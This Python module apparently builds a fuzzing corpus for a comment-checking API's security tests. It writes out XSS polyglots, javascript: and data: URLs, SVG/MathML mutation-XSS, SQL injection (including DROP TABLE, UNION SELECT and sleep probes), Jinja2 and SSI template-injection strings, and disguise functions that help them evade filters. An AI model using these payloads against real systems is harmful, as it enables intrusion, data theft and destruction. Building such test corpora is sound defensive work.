"""The hostile corpus, generated deterministically from hand-written families.

Families (each a list of base strings written by hand):

- `xss_polyglot`: well-known polyglots that break out of text, attributes, scripts and comments;
- `attr_breakout`: leaving a double- or single-quoted (or unquoted) attribute into a handler;
- `closers`: `</textarea>`, `</script>`, `</title>`, `</style>`, `-->` and friends, then markup;
- `script_urls`: `javascript:`, `data:` and `vbscript:` URLs, obfuscated (case, tabs, entities,
  leading controls), as bare text, in HTML links, in Markdown and in BBCode;
- `svg_mathml`: SVG and MathML payloads, mutation-XSS namespace confusion included;
- `embedding`: `<iframe>`, `<object>`, `<embed>`, `<base>`, `<meta http-equiv=refresh>`,
  `<form action>`, `<button formaction>`;
- `sql`: SQL and LIKE metacharacters (`' " ; -- % _ \\ /* */ OR 1=1`, Unicode quotes);
- `unicode`: bidi overrides, zero-width characters, fullwidth brackets, 4-byte characters,
  noncharacters, C1 controls, line and paragraph separators;
- `templates`: Jinja2, JavaScript template and server-side include syntax.

Each base string is sent as it is, wrapped in ordinary prose, and after an ordinary URL (where
an author URL or a permalink would carry it), and each of those in every text field of a check.
"""

from __future__ import annotations

import html
from collections.abc import Callable
from dataclasses import dataclass
from urllib.parse import quote

ALERT = "alert(1)"

FAMILIES: dict[str, tuple[str, ...]] = {
    "xss_polyglot": (
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/"
        "</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
        "'\"--></style></script><script>alert(1)</script>",
        "\"'><img src=x onerror=alert(1)>",
        "<img src=x onerror=alert(1)//",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<<script>alert(1);//<</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script src=//evil.example/x.js></script>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        '<!--<img src="--><img src=x onerror=alert(1)//">',
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "<style><img src=x onerror=alert(1)></style>",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    ),
    "attr_breakout": (
        '" onmouseover="alert(1)',
        "' onmouseover='alert(1)",
        '" autofocus onfocus="alert(1)" x="',
        "' autofocus onfocus='alert(1)' x='",
        '"><svg onload=alert(1)>',
        "'><svg onload=alert(1)>",
        "` onmouseover=`alert(1)",
        " onmouseover=alert(1) ",
        '"/><script>alert(1)</script>',
        "'/><script>alert(1)</script>",
        "&quot; onmouseover=&quot;alert(1)",
        "&#39; onmouseover=&#39;alert(1)",
        'x" style="background:url(javascript:alert(1))',
        "\"\"\"''' onerror=alert(1)",
    ),
    "closers": (
        "</textarea><script>alert(1)</script>",
        "</TEXTAREA ><img src=x onerror=alert(1)>",
        "</script><script>alert(1)</script>",
        "</script ><svg onload=alert(1)>",
        "</title><script>alert(1)</script>",
        "</style><script>alert(1)</script>",
        "</noscript><script>alert(1)</script>",
        "--><script>alert(1)</script>",
        "]]><script>alert(1)</script>",
        "</option></select><img src=x onerror=alert(1)>",
        "</p></div></li></ol><script>alert(1)</script>",
        "</template><script>alert(1)</script>",
        "</iframe><script>alert(1)</script>",
        "</xmp><script>alert(1)</script>",
    ),
    "script_urls": (
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        " javascript:alert(1)",
        "\x01javascript:alert(1)",
        "&#106;avascript:alert(1)",
        "javascript&colon;alert(1)",
        "javascript://example.org/%0aalert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:image/svg+xml,<svg onload=alert(1)>",
        "DATA:text/html,<script>alert(1)</script>",
        '<a href="javascript:alert(1)">click</a>',
        "<a href='data:text/html,<script>alert(1)</script>'>click</a>",
        "<a href=javascript:alert(1)>click</a>",
        "[click](javascript:alert(1))",
        "[click](data:text/html,<script>alert(1)</script>)",
        "[url=javascript:alert(1)]click[/url]",
        "[url]javascript:alert(1)[/url]",
        'https://blog.example/"onmouseover="alert(1)',
        "https://blog.example/'><script>alert(1)</script>",
        "//evil.example/path",
    ),
    "svg_mathml": (
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><set attributeName=href to=javascript:alert(1)>",
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        '<math href="javascript:alert(1)">click</math>',
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
        '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    ),
    "embedding": (
        '<iframe src="https://evil.example"></iframe>',
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        '<object data="javascript:alert(1)"></object>',
        '<embed src="data:text/html,<script>alert(1)</script>">',
        '<base href="https://evil.example/">',
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
        '<form action="javascript:alert(1)"><button>go</button></form>',
        '<button formaction="javascript:alert(1)">go</button>',
        '<link rel=import href="https://evil.example/x.html">',
        "<isindex action=javascript:alert(1) type=image>",
    ),
    "sql": (
        "' OR 1=1 --",
        '" OR "1"="1',
        "'; DROP TABLE comments; --",
        "1; SELECT pg_sleep(5) --",
        "' UNION SELECT key_hash, prefix FROM site_keys --",
        "%",
        "_",
        "%_%",
        "\\",
        "\\'",
        "\\%\\_",
        "/* */",
        "*/ OR /*",
        "\u2019 OR \u20181\u2019=\u20181",
        "\u201c OR \u201d1\u201d=\u201c1",
        "\uff07 OR 1=1 --",
        "admin'--",
        "' AND SLEEP(5) AND '1'='1",
        "$1$2 ?? :name @var",
    ),
    "unicode": (
        "\u202egnp.exe\u202c",
        "a\u200bb\u200cc\u200dd\u2060e\ufeff",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
        "\U0001f600\U0001f4a9\U00010348",
        "\ufffe\uffff\U0010ffff",
        "\x85\x9b\x9c",
        "line\u2028separator\u2029paragraph",
        "e\u0301\u0301\u0301\u0301\u0301",
        "\x1b[31mred\x1b[0m",
        "\u0430dmin\u0435",
        "\ufdd0\ufdef",
        "tab\tcr\rlf\n",
    ),
    "templates": (
        "{{7*7}}",
        "{{ config.items() }}",
        "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        '<!--#exec cmd="ls" -->',
        "{{constructor.constructor('alert(1)')()}}",
    ),
}

WRAPS: dict[str, str] = {
    "bare": "{}",
    "prose": "Thanks for the post. {} Looking forward to the next one.",
    "url": "https://reader.example/p?q={}",
}


@dataclass(frozen=True, slots=True)
class Payload:
    """One hostile string: its family, the base string's index and how it was wrapped."""

    family: str
    name: str
    text: str


def corpus() -> list[Payload]:
    """Every family's strings in every wrap, in a fixed order, duplicates once."""
    seen: set[str] = set()
    out: list[Payload] = []
    for family, bases in FAMILIES.items():
        for index, base in enumerate(bases):
            for wrap, template in WRAPS.items():
                text = template.format(base) if wrap != "bare" else base
                if text not in seen:
                    seen.add(text)
                    out.append(Payload(family, f"{family}[{index}]/{wrap}", text))
    return out


_FULLWIDTH = {code: code + 0xFEE0 for code in range(0x21, 0x7F)}

# The disguises filters are known to miss: other quoting and markup around the string, case,
# invisible and look-alike characters (which NFKC folds back), entities and percent-encoding
# (which must stay text, never be decoded into markup), line breaks, and 4-byte characters.
MUTATIONS: dict[str, Callable[[str], str]] = {
    "double-quoted": lambda s: f'"{s}"',
    "single-quoted": lambda s: f"'{s}'",
    "markdown": lambda s: f"[click here]({s})",
    "bbcode": lambda s: f"[url={s}]click here[/url]",
    "upper": str.upper,
    "zero-width": "\u200b".join,
    "fullwidth": lambda s: s.translate(_FULLWIDTH),
    "entities": html.escape,
    "percent": lambda s: quote(s, safe=""),
    "line-breaks": lambda s: s.replace(" ", "\r\n"),
    "padded": lambda s: f"\t {s} \n",
    "tripled": lambda s: s * 3,
    "astral": lambda s: f"\U0001f642{s}\U0001d518",
    "swapped-case": str.swapcase,
    "spaced-out": " ".join,
}


def mutated() -> list[Payload]:
    """Every base string in every disguise, apart from what corpus() already sends."""
    seen = {p.text for p in corpus()}
    out: list[Payload] = []
    for family, bases in FAMILIES.items():
        for index, base in enumerate(bases):
            for name, mutation in MUTATIONS.items():
                text = mutation(base)
                if text not in seen:
                    seen.add(text)
                    out.append(Payload(family, f"{family}[{index}]/{name}", text))
    return out


# Every text field of POST /v1/comments/check; user_ip and form_rendered_at take anything too,
# and must refuse what they cannot read with a 422 naming them.
CHECK_FIELDS: tuple[str, ...] = (
    "content",
    "post_id",
    "permalink",
    "author_name",
    "author_email",
    "author_url",
    "user_ip",
    "user_agent",
    "referrer",
    "language",
    "honeypot",
    "form_rendered_at",
    "parent_id",
    "external_id",
)


@dataclass(frozen=True, slots=True)
class Case:
    """One payload in one field: the unit the corpus counts."""

    field: str
    payload: Payload


def cases() -> list[Case]:
    """The corpus: every payload in every field of a check."""
    return [Case(field, p) for field in CHECK_FIELDS for p in corpus()]


def packs() -> list[dict[str, Case]]:
    """The cases grouped into requests: request k carries payload k in content, payload k+1 in
    post_id, and so on, so every case is sent once and a request tries every field at once."""
    payloads = corpus()
    n = len(payloads)
    return [
        {field: Case(field, payloads[(k + shift) % n]) for shift, field in enumerate(CHECK_FIELDS)}
        for k in range(n)
    ]


def spread() -> list[dict[str, Case]]:
    """The mutated payloads, each sent once, fourteen to a request: request j puts its payloads
    in the fields in an order rotated by j, so each field sees every family."""
    payloads = mutated()
    width = len(CHECK_FIELDS)
    out = []
    for j, start in enumerate(range(0, len(payloads), width)):
        group = payloads[start : start + width]
        fields = CHECK_FIELDS[j % width :] + CHECK_FIELDS[: j % width]
        out.append({field: Case(field, p) for field, p in zip(fields, group, strict=False)})
    return out


SQL_METACHARACTERS: tuple[str, ...] = FAMILIES["sql"]

_ALPHABET = "abcdefghijklmnopqrstuvwxyz0123456789"
_TLDS = ("io", "de", "fr", "nl", "be", "ch", "at", "it", "se", "no", "pl")
# A comment with 10,000 distinct links (bare domains, which the link finder reads), within the
# content limit and the default 64 kB body limit.
TEN_THOUSAND_LINKS = " ".join(
    f"{_ALPHABET[i // 36 % 26]}{_ALPHABET[i % 36]}.{_TLDS[i // 936]}" for i in range(10_000)
)
